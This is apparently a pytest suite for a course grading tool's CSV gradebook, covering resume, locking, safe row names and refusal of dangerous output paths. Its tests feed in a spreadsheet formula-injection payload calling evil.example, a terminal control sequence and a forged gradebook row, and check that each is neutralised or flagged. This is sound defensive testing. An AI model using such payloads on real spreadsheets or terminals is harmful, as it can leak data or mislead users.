"""The gradebook CSV: rows on disk as soon as written, resume, names that stay one printable line, cells no
spreadsheet runs, and a gradebook that says when learner code could have written into it."""
import csv
import os
import subprocess
import sys

import pytest

from fixtures.grading.builders import BATCH_FLAGS, NAMES, answered, edited, gradebook_rows, write
from instructor_tools.grading.cli import main

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
GRADE = [sys.executable, "-m", "public_tests.grade"]


HEADER = ("file,score,max_score,initialize_parameters_zeros,initialize_parameters_random,initialize_parameters_he,"
          "rules,error,isolation")


def a_verdict(score=3.0, error=None, isolation="bubblewrap: ..."):
    return {"score": score, "max_score": 3.0, "error": error, "violations": [{"rule": "extra-cell"}],
            "exercises": [{"name": n, "score": 1.0} for n in NAMES], "isolation": isolation}


def test_each_row_is_on_disk_as_soon_as_it_is_written(tmp_path):
    from instructor_tools.grading import Gradebook

    path = tmp_path / "gradebook.csv"
    book = Gradebook(path, NAMES)
    book.write("a.ipynb", a_verdict(error="line one\nline two"))
    assert path.read_text().splitlines() == [HEADER, "a.ipynb,3,3,1,1,1,extra-cell,line one line two,isolated"]
    book.close()


def test_resume_drops_a_row_cut_off_mid_write_and_lists_the_rest(tmp_path):
    from instructor_tools.grading import Gradebook

    path = tmp_path / "gradebook.csv"
    with Gradebook(path, NAMES) as book:
        book.write("a.ipynb", a_verdict())
        book.write("b.ipynb", a_verdict())
    whole = path.read_text()
    path.write_text(whole + "c.ipynb,3,3,1")  # the batch died while writing c's row
    with Gradebook(path, NAMES, resume=True) as book:
        assert book.done == {"a.ipynb", "b.ipynb"}
        book.write("c.ipynb", a_verdict(score=2.0))
    assert path.read_text() == whole + "c.ipynb,2,3,1,1,1,extra-cell,,isolated\n"


def test_an_existing_gradebook_is_never_replaced_silently(tmp_path):
    from instructor_tools.grading import Gradebook
    from instructor_tools.grading.gradebook import GradebookError

    path = tmp_path / "gradebook.csv"
    path.write_text("name,grade\nx,1\n")
    with pytest.raises(GradebookError, match="add --resume"):
        Gradebook(path, NAMES)
    with pytest.raises(GradebookError, match="its columns are not"):
        Gradebook(path, NAMES, resume=True)
    assert path.read_text() == "name,grade\nx,1\n"
    Gradebook(path, NAMES, overwrite=True).close()
    assert path.read_text().startswith("file,score")


def test_row_names_are_printable_and_one_line():
    import pathlib

    from instructor_tools.grading.gradebook import row_name

    def name(raw):
        return row_name(pathlib.Path(os.fsdecode(raw)))

    assert name(b"caf\xe9\n.ipynb") == "caf\\xe9\\n.ipynb"
    # never two files with one name: a literal backslash, a byte, a character that is not printable
    raws = [b"c\xe9.ipynb", b"c\\xe9.ipynb", "c\x85.ipynb".encode(), b"c\x85.ipynb", b"c\\x85.ipynb", b"c\\\\.ipynb",
            b"c\\.ipynb", "c\u2028.ipynb".encode(), b"c\\u2028.ipynb", b"c\n.ipynb", b"c\\n.ipynb"]
    names = [name(raw) for raw in raws]
    assert len(set(names)) == len(raws) and all(n.isprintable() for n in names), names


def test_two_files_whose_names_look_alike_keep_a_row_each_and_resume(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    write(folder, answered(), b"caf\xe9.ipynb")
    write(folder, edited(NAMES[1], "np.random.seed(3)", "np.random.seed(4)"), "caf\\xe9.ipynb")  # a real backslash
    gradebook = tmp_path / "gradebook.csv"
    assert main([str(folder), "--csv", str(gradebook), "--timeout", "60"] + BATCH_FLAGS) == 0
    rows = {name: row["score"] for name, row in gradebook_rows(gradebook).items()}
    assert rows == {"caf\\xe9.ipynb": "3", "caf\\\\xe9.ipynb": "2"}
    lines = gradebook.read_text(encoding="utf-8").splitlines(True)
    gradebook.write_text("".join(line for line in lines if not line.startswith("caf\\\\")), encoding="utf-8")
    done = subprocess.run(GRADE + [str(folder), "--csv", str(gradebook), "--resume", "--timeout", "60"] + BATCH_FLAGS,
                          capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 0 and "Graded 1 notebook(s)" in done.stdout and "1 already in the gradebook" in done.stdout
    rows = {name: row["score"] for name, row in gradebook_rows(gradebook).items()}
    assert rows == {"caf\\xe9.ipynb": "3", "caf\\\\xe9.ipynb": "2"}


def test_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote_and_resume_reads_them_back(tmp_path):
    from instructor_tools.grading import Gradebook

    path = tmp_path / "gradebook.csv"
    names = ["=cmd.ipynb", "+1.ipynb", "-2.ipynb", "@sum.ipynb", "'quoted.ipynb", "plain.ipynb"]
    with Gradebook(path, NAMES) as book:
        for name in names:
            book.write(name, a_verdict(error='=HYPERLINK("http://evil.example/?"&A1,"click")'))
        book.write("tab.ipynb", a_verdict(error="\tcell"))
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))[1:]
    assert [row[0] for row in rows] == ["'=cmd.ipynb", "'+1.ipynb", "'-2.ipynb", "'@sum.ipynb", "''quoted.ipynb",
                                        "plain.ipynb", "tab.ipynb"]
    assert {row[-2] for row in rows[:-1]} == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"}
    assert rows[-1][-2] == "cell"  # whitespace is folded into single spaces, so no cell starts with a tab
    for value in ["\tx", "\rx", "'x"]:
        from instructor_tools.grading.gradebook import from_spreadsheet, spreadsheet_safe

        assert spreadsheet_safe(value) == "'" + value and from_spreadsheet(spreadsheet_safe(value)) == value
    with Gradebook(path, NAMES, resume=True) as book:
        assert book.done == set(names) | {"tab.ipynb"}


def test_an_unisolated_run_marks_the_gradebook_before_any_learner_code_and_resume_needs_isolation_off(tmp_path):
    from instructor_tools.grading import Gradebook
    from instructor_tools.grading.gradebook import GradebookError

    path = tmp_path / "gradebook.csv"
    with Gradebook(path, NAMES, isolated=False) as book:
        marker = path.read_text().splitlines()[1]
        assert marker.startswith(",,,,,,,") and marker.endswith(",NOT ISOLATED")
        book.write("a.ipynb", a_verdict(isolation="NOT ISOLATED: turned off"))
    with open(path, "a", encoding="utf-8") as handle:  # what a submission with your rights can append
        handle.write("evil.ipynb,3,3,1,1,1,,,isolated\n")
    with pytest.raises(GradebookError, match="written with --isolation off.*add --isolation off"):
        Gradebook(path, NAMES, resume=True)
    with Gradebook(path, NAMES, resume=True, isolated=False) as book:  # the instructor accepts the risk again
        assert book.done == {"a.ipynb", "evil.ipynb"}
    assert path.read_text().count(",NOT ISOLATED\n") == 3  # a second marker for the second run


def test_an_isolated_gradebook_resumes_and_says_isolated_on_every_row(tmp_path):
    from instructor_tools.grading import Gradebook

    path = tmp_path / "gradebook.csv"
    with Gradebook(path, NAMES) as book:
        book.write("a.ipynb", a_verdict())
        book.write("b.ipynb", a_verdict(isolation=None, error="b.ipynb is not a notebook"))
    with Gradebook(path, NAMES, resume=True) as book:
        assert book.done == {"a.ipynb", "b.ipynb"}
    assert [row["isolation"] for row in csv.DictReader(path.open())] == ["isolated", ""]


@pytest.mark.parametrize("text", ["name,grade\nalice,A\nbob,B", "name,grade"], ids=["rows", "header only"])
def test_resume_leaves_a_csv_that_is_not_a_gradebook_as_it_was(tmp_path, text):
    from instructor_tools.grading import Gradebook
    from instructor_tools.grading.gradebook import GradebookError

    path = tmp_path / "other.csv"
    path.write_text(text)  # no newline at the end: what a cut-off gradebook row also looks like
    with pytest.raises(GradebookError, match="its columns are not|not a gradebook"):
        Gradebook(path, NAMES, resume=True)
    assert path.read_text() == text


def test_the_error_column_holds_no_terminal_control_sequence(tmp_path):
    from instructor_tools.grading import Gradebook

    path = tmp_path / "gradebook.csv"
    with Gradebook(path, NAMES) as book:
        book.write("a.ipynb", a_verdict(error="evil\x1b]0;pwned\x07\x1b[2J.ipynb is a symbolic link"))
    assert "\x1b" not in path.read_text() and "\x07" not in path.read_text()
    assert gradebook_rows(path)["a.ipynb"]["error"] == "evil\\x1b]0;pwned\\x07\\x1b[2J.ipynb is a symbolic link"


def limit_file_size(size):
    import resource

    return lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))


def test_a_gradebook_that_cannot_be_written_stops_the_batch_with_a_message_and_resume_finishes_it(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    for name in ("a", "b", "c", "d"):
        (folder / f"{name}.ipynb").write_text("not json")  # graded at once: "is not a notebook"
    gradebook = tmp_path / "gradebook.csv"
    command = GRADE + [str(folder), "--csv", str(gradebook)] + BATCH_FLAGS
    full = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, preexec_fn=limit_file_size(500))
    assert full.returncode == 2 and "Traceback" not in full.stderr, full.stderr
    assert "cannot write" in full.stderr and "File too large" in full.stderr and "--resume" in full.stderr
    assert 0 < len(gradebook_rows(gradebook)) < 4
    done = subprocess.run(command + ["--resume"], capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    assert sorted(gradebook_rows(gradebook)) == ["a.ipynb", "b.ipynb", "c.ipynb", "d.ipynb"]


HOLD = """import sys
from instructor_tools.grading import Gradebook
with Gradebook(sys.argv[1], sys.argv[2:]) as book:
    book.write("first.ipynb", {"score": 3.0, "max_score": 3.0, "error": None, "violations": [], "exercises": [],
                               "isolation": "bubblewrap"})
    print("locked", flush=True)
    sys.stdin.readline()  # hold the gradebook until the test says so
"""


def test_a_second_grader_on_a_gradebook_in_use_is_refused_and_writes_nothing(tmp_path, capsys):
    from instructor_tools.grading import Gradebook
    from instructor_tools.grading.gradebook import GradebookError

    path, folder = tmp_path / "gradebook.csv", tmp_path / "class"
    folder.mkdir()
    write(folder, "{broken", "alice.ipynb")
    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(path), *NAMES], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        assert holder.stdout.readline() == "locked\n"  # the first grader has the lock: no timing involved
        before = path.read_bytes()
        for options in ({"resume": True}, {"overwrite": True}, {}):
            with pytest.raises(GradebookError, match=f"being written by another grader \\(pid {holder.pid}\\)"):
                Gradebook(path, NAMES, **options)
        for extra in (["--resume"], ["--overwrite"]):
            with pytest.raises(SystemExit) as stopped:
                main([str(folder), "--csv", str(path)] + extra + BATCH_FLAGS)
            assert stopped.value.code == 2 and "being written by another grader" in capsys.readouterr().err
        assert path.read_bytes() == before
    finally:
        holder.communicate("\n")
    with Gradebook(path, NAMES, resume=True) as book:  # once the first grader has ended, the file is free
        assert book.done == {"first.ipynb"}


def test_resume_warns_about_files_that_have_more_than_one_row(tmp_path, capsys):
    from instructor_tools.grading import Gradebook

    path = tmp_path / "gradebook.csv"
    path.write_text(f"{HEADER}\na.ipynb,3,3,1,1,1,,,isolated\nb.ipynb,3,3,1,1,1,,,isolated\n"
                    "b.ipynb,0,3,0,0,0,,timed out,isolated\n")
    with Gradebook(path, NAMES, resume=True) as book:
        assert book.done == {"a.ipynb", "b.ipynb"}
    error = capsys.readouterr().err
    assert "WARNING" in error and "more than one row for 1 file(s): b.ipynb" in error


def test_a_gradebook_path_that_could_overwrite_a_notebook_is_refused_before_anything_is_written(tmp_path, capsys):
    folder, outside = tmp_path / "class", tmp_path / "elsewhere"
    folder.mkdir()
    outside.mkdir()
    write(folder, answered(), "alice.ipynb")
    template = write(outside, answered(), "template.ipynb")
    os.link(folder / "alice.ipynb", outside / "alice-link.csv")
    os.link(template, outside / "template-link.csv")
    cases = [([str(folder / "alice.ipynb")], "it ends in .ipynb"),
             ([str(outside / "new.IPYNB")], "it ends in .ipynb"),
             ([str(template), "--template", str(template)], "it ends in .ipynb"),
             ([str(folder / "grades.csv")], "it is inside the graded folder"),
             ([str(outside / "alice-link.csv")], f"it is the same file as {folder / 'alice.ipynb'}"),
             ([str(outside / "template-link.csv"), "--template", str(template)], f"the same file as {template}")]
    files = {path: path.read_bytes() for path in (folder / "alice.ipynb", template)}
    for arguments, reason in cases:
        with pytest.raises(SystemExit) as stopped:
            main([str(folder), "--csv", *arguments, "--overwrite"] + BATCH_FLAGS)
        error = capsys.readouterr().err
        assert stopped.value.code == 2 and "refusing the gradebook" in error and reason in error, arguments
    assert {path: path.read_bytes() for path in files} == files
    assert sorted(os.listdir(folder)) == ["alice.ipynb"] and not (outside / "new.IPYNB").exists()


def test_a_gradebook_on_dev_null_or_a_pipe_is_written_as_before_and_a_full_one_is_a_gradebook_error(tmp_path, capsys):
    folder = tmp_path / "class"
    folder.mkdir()
    write(folder, "{broken", "dave.ipynb")  # graded at once: "is not a notebook"
    for _ in range(2):  # never locked: a second run on /dev/null is no second grader
        assert main([str(folder), "--csv", os.devnull] + BATCH_FLAGS) == 0
        assert "wrote /dev/null." in capsys.readouterr().out
    piped = subprocess.run(GRADE + [str(folder), "--csv", "/dev/stdout"] + BATCH_FLAGS, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, text=True, cwd=ROOT)  # as with | cat
    assert piped.returncode == 0 and f"{HEADER}\n" in piped.stdout and "\ndave.ipynb,0,3,0,0,0,," in piped.stdout
    with pytest.raises(SystemExit) as stopped:
        main([str(folder), "--csv", "/dev/full"] + BATCH_FLAGS)
    error = capsys.readouterr().err
    assert stopped.value.code == 2 and "cannot write /dev/full: No space left on device" in error
    assert "standard output" not in error


def test_with_the_folder_given_as_dot_the_refusal_suggests_a_gradebook_outside_it(tmp_path, monkeypatch, capsys):
    folder = tmp_path / "class"
    folder.mkdir()
    write(folder, "{broken", "dave.ipynb")
    monkeypatch.chdir(folder)
    for given, suggested in (("grades.csv", "../grades.csv"), ("dave.ipynb", "../gradebook.csv")):
        with pytest.raises(SystemExit) as stopped:
            main([".", "--csv", given, "--overwrite"] + BATCH_FLAGS)
        assert stopped.value.code == 2 and f"e.g. --csv {suggested}. Nothing was written." in capsys.readouterr().err
    assert main([".", "--csv", "../grades.csv"] + BATCH_FLAGS) == 0  # the suggestion is not refused
    assert sorted(os.listdir(folder)) == ["dave.ipynb"]
